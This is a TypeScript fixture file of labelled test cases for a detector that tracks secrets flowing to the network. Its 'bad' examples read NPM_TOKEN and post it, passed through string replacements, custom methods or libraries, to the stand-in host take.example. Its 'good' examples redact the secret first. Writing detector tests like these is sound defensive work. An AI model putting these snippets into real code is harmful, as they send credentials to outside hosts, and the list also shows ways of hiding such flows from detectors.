import type { DetectorExamples } from '../detector.ts';

const inPython = (...lines: readonly string[]): string =>
  [
    'import os, re, requests',
    "secret = os.environ['NPM_TOKEN']",
    ...lines,
    "requests.post('https://take.example', data=text)",
  ].join('\n');

const inJavaScript = (code: string): string =>
  `const secret = process.env.NPM_TOKEN; ${code} fetch('https://take.example', { method: 'POST', body: text });`;

const attributes = {
  source: 'environment:NPM_TOKEN',
  sink: 'network.body',
  to: 'take.example',
} as const;

/** What is looked for in a text does not go into what comes out; the text itself and what is put in its place do. */
export const ofSearches: DetectorExamples = {
  bad: [
    {
      code: inJavaScript("const text = 'at T'.replaceAll('T', secret);"),
      why: 'a secret is put in the place of a letter',
      attributes,
    },
    {
      code: inJavaScript("const text = 'at T'.replace(/T/, () => secret);"),
      why: 'by a function',
      attributes,
    },
    {
      code: inJavaScript("const text = secret.replaceAll('a', 'b').split('').join('-');"),
      why: 'the secret itself is searched',
      attributes,
    },
    {
      code: inJavaScript("const text = 'at T'.replace(...['T', secret]);"),
      why: 'both arguments come out of a list',
      attributes,
    },
    {
      code: inJavaScript(
        'const box = { replace: (one) => one }; const text = box.replace(secret);',
      ),
      why: 'a method of its own that only has the name',
      attributes,
    },
    {
      code: inJavaScript(
        "const clean = (box) => box.replace(secret, ''); const text = clean({ replace: (one) => one });",
      ),
      why: 'the same through a function',
      attributes,
    },
    {
      code: inJavaScript(
        'const box = Object.create({ replace: (one) => one }); const text = box.replace(secret);',
      ),
      why: 'a method of its own that an object inherits',
      attributes,
    },
    {
      code: inJavaScript(
        "const boxes = new Map([['a', { split(one) { return one; } }]]); const text = boxes.get('a').split(secret);",
      ),
      why: 'a method of its own in a table',
      attributes,
    },
    {
      code: inJavaScript(
        'const make = () => { const box = {}; box.split = (one) => one; return box; }; const box = make(); const text = box.split(secret);',
      ),
      why: 'a method of its own that is put into what a function gives',
      attributes,
    },
    {
      code: inJavaScript("import box from './box.js'; const text = box.split(secret);"),
      why: 'an object of another file is no text',
      attributes,
    },
    {
      code: inJavaScript("import _ from 'lodash'; const text = _.replace(secret, 'a', 'b');"),
      why: 'a library is given the text first',
      attributes,
    },
    {
      code: inJavaScript(
        'const Buffer = { byteLength: (one) => one }; const text = Buffer.byteLength(secret);',
      ),
      why: 'a length that is none',
      attributes,
    },
    {
      code: inJavaScript('const text = [secret].reduce((all, one) => ({ ...all, [one]: 1 }), {});'),
      why: 'what is put together has the secret for a key',
      attributes,
    },
    {
      code: inJavaScript(
        "const text = [...secret].reduce((all, one) => all.split(one).join('') + table[one], '');",
      ),
      why: 'every letter is looked for, and looked up in a table as well',
      attributes,
    },
    {
      path: 'x.py',
      code: inPython("text = 'at T'.replace('T', secret)"),
      why: 'a secret is put in the place of a letter, in Python',
      attributes,
    },
    {
      path: 'x.py',
      code: inPython("text = str.replace(secret, 'a', 'b')"),
      why: 'the type is given the text first',
      attributes,
    },
    {
      path: 'x.py',
      code: inPython("text = re.sub('T', secret, 'at T')"),
      why: 'in the place of what a pattern finds',
      attributes,
    },
    {
      path: 'x.py',
      code: inPython("text = re.compile('a').sub('b', secret)"),
      why: 'the secret itself is searched with a pattern',
      attributes,
    },
  ],
  good: [
    {
      code: inJavaScript(
        "let text = report(); for (const one of [secret].filter(Boolean)) text = text.replaceAll(one, '[REDACTED]');",
      ),
      why: 'secrets are taken out of a text before it is sent',
    },
    {
      code: inJavaScript(
        "const box = { replace: (one) => one }; const all = JSON.stringify(report()); const text = all.replaceAll(secret, '***').replace(secret, '');",
      ),
      why: 'out of what is surely a text, where something else has a method of that name',
    },
    {
      code: inJavaScript(
        "const clean = (given) => given.replace(new RegExp(secret, 'g'), '***'); const text = clean(report());",
      ),
      why: 'with a pattern',
    },
    {
      code: inJavaScript(
        "const text = [secret].reduce((all, one) => (one ? all.replaceAll(one, '***') : all), report());",
      ),
      why: 'one after the other',
    },
    {
      code: inJavaScript("const text = report().split(secret).join('***');"),
      why: 'a text without what it is split at',
    },
    {
      code: "import https from 'node:https'; const data = JSON.stringify(process.env); https.request({ hostname: 'api.example', headers: { 'Content-Length': Buffer.byteLength(data) } });",
      why: 'how long a text is says nothing of it',
    },
    {
      path: 'x.py',
      code: inPython("text = report().replace(secret, '***')"),
      why: 'taken out in Python',
    },
    {
      path: 'x.py',
      code: inPython("text = re.sub(re.escape(secret), '***', report())"),
      why: 'with a pattern',
    },
    {
      path: 'x.py',
      code: inPython('pattern = re.compile(secret)', "text = pattern.sub('***', report())"),
      why: 'with one that was made before',
    },
  ],
};
